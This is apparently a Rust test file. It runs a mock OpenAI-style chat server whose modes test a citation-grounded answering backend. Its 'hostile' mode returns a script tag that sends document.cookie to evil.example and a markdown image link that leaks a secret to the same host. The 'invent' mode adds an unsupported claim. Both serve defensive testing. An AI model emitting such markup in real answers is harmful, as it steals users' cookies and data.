//! A local engine that speaks the OpenAI chat-completions protocol (streaming and not), for
//! testing the `openai` backend without a model. The requested model name picks a behaviour:
//!
//! - `echo`: answers with the first sentence of source 1 and `[1]` (a grounded answer);
//! - `echo-slow`: the same after a second;
//! - `invent`: adds a sentence the sources do not support;
//! - `unmarked`: the echo without its `[1]` marker (small models often omit it);
//! - `miscite`: the echo citing `[2]` (a wrong or missing source);
//! - `abstain`: says the sources do not answer, as the prompt asks;
//! - `hostile`: adds a `<script>` element and an image link to an outside host;
//! - `flaky`: every other attempt fails with 503;
//! - `broken`: 400 with an OpenAI-style error body;
//! - `hang`: waits 30 s before answering;
//! - `endless`: streams words until the client goes away (recorded in `disconnected`);
//! - `midstream`: sends two pieces, then an error event.
#![allow(dead_code)]

use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use actix_web::web::Bytes;
use actix_web::{App, HttpResponse, HttpServer, web};
use serde_json::{Value, json};

#[derive(Default)]
pub struct MockState {
    pub attempts: AtomicUsize,
    pub last_request: Mutex<Option<Value>>,
    pub disconnected: AtomicBool,
}

pub struct MockEngine {
    pub base_url: String,
    pub state: Arc<MockState>,
}

/// Starts the engine on a free loopback port, on the current Tokio runtime.
pub fn start() -> MockEngine {
    let state = Arc::new(MockState::default());
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let data = web::Data::from(state.clone());
    let server = HttpServer::new(move || {
        App::new()
            .app_data(data.clone())
            .route("/v1/chat/completions", web::post().to(chat))
    })
    .workers(1)
    .listen(listener)
    .unwrap()
    .run();
    tokio::spawn(server);
    MockEngine {
        base_url: format!("http://127.0.0.1:{port}/v1"),
        state,
    }
}

/// The first sentence of source 1 in the prompt, with its citation.
fn echo(body: &Value) -> String {
    let user = body["messages"]
        .as_array()
        .and_then(|m| m.iter().rev().find(|m| m["role"] == "user"))
        .and_then(|m| m["content"].as_str())
        .unwrap_or_default();
    let text = user
        .split_once("<source id=\"1\"")
        .and_then(|(_, rest)| rest.split_once(">\n"))
        .and_then(|(_, rest)| rest.split_once("\n</source>"))
        .map(|(text, _)| text)
        .unwrap_or("Nothing.");
    let first = text
        .lines()
        .map(str::trim)
        .find(|l| !l.is_empty() && !l.starts_with('#'))
        .unwrap_or(text);
    let sentence = first
        .split_inclusive(". ")
        .next()
        .unwrap_or(first)
        .trim()
        .trim_end_matches('.');
    format!("{sentence} [1].")
}

fn completion(content: &str) -> Value {
    json!({
        "id": "chatcmpl-mock", "object": "chat.completion", "model": "mock",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 100, "completion_tokens": content.split_whitespace().count(), "total_tokens": 120}
    })
}

fn chunk(content: &str) -> Bytes {
    let value = json!({
        "id": "chatcmpl-mock", "object": "chat.completion.chunk", "model": "mock",
        "choices": [{"index": 0, "delta": {"content": content}, "finish_reason": null}]
    });
    Bytes::from(format!("data: {value}\n\n"))
}

/// Sets `disconnected` when the response body is dropped before it ended.
struct DropFlag(Arc<MockState>, bool);

impl Drop for DropFlag {
    fn drop(&mut self) {
        if !self.1 {
            self.0.disconnected.store(true, Ordering::SeqCst);
        }
    }
}

async fn chat(state: web::Data<MockState>, body: web::Json<Value>) -> HttpResponse {
    let body = body.into_inner();
    let attempt = state.attempts.fetch_add(1, Ordering::SeqCst);
    *state.last_request.lock().unwrap() = Some(body.clone());
    let model = body["model"].as_str().unwrap_or_default().to_string();
    let stream = body["stream"].as_bool().unwrap_or(false);

    let content = match model.as_str() {
        "broken" => {
            return HttpResponse::BadRequest().json(json!({
                "error": {"message": "model 'broken' does not exist", "type": "invalid_request_error"}
            }));
        }
        "flaky" if attempt.is_multiple_of(2) => {
            return HttpResponse::ServiceUnavailable().body("overloaded");
        }
        "hang" => {
            tokio::time::sleep(Duration::from_secs(30)).await;
            echo(&body)
        }
        "echo-slow" => {
            tokio::time::sleep(Duration::from_secs(1)).await;
            echo(&body)
        }
        "unmarked" => echo(&body).replace(" [1]", ""),
        "miscite" => echo(&body).replace("[1]", "[2]"),
        "abstain" => "The sources do not answer this question.".to_string(),
        "invent" => format!(
            "{} Employees may also take unlimited paid sabbaticals every year [1].",
            echo(&body)
        ),
        "hostile" => format!(
            "{} <script>fetch('https://evil.example/?c='+document.cookie)</script>![logo](https://evil.example/p.png?d=SECRET)",
            echo(&body)
        ),
        _ => echo(&body),
    };

    if model == "endless" {
        let flag = DropFlag(state.into_inner(), false);
        let words = futures_util::stream::unfold(flag, |flag| async move {
            tokio::time::sleep(Duration::from_millis(20)).await;
            Some((Ok::<_, actix_web::Error>(chunk("word ")), flag))
        });
        return HttpResponse::Ok()
            .content_type("text/event-stream")
            .streaming(words);
    }
    if !stream {
        return HttpResponse::Ok().json(completion(&content));
    }
    let mut events: Vec<Bytes> = content.split_inclusive(' ').map(chunk).collect();
    if model == "midstream" {
        events.truncate(2);
        events.push(Bytes::from(
            "data: {\"error\":{\"message\":\"the engine ran out of memory\"}}\n\n",
        ));
    } else {
        let usage = json!({"id": "chatcmpl-mock", "object": "chat.completion.chunk", "choices": [],
            "usage": {"prompt_tokens": 100, "completion_tokens": events.len(), "total_tokens": 120}});
        events.push(Bytes::from(format!("data: {usage}\n\n")));
        events.push(Bytes::from_static(b"data: [DONE]\n\n"));
    }
    let body = futures_util::stream::iter(events.into_iter().map(Ok::<_, actix_web::Error>));
    HttpResponse::Ok()
        .content_type("text/event-stream")
        .streaming(body)
}
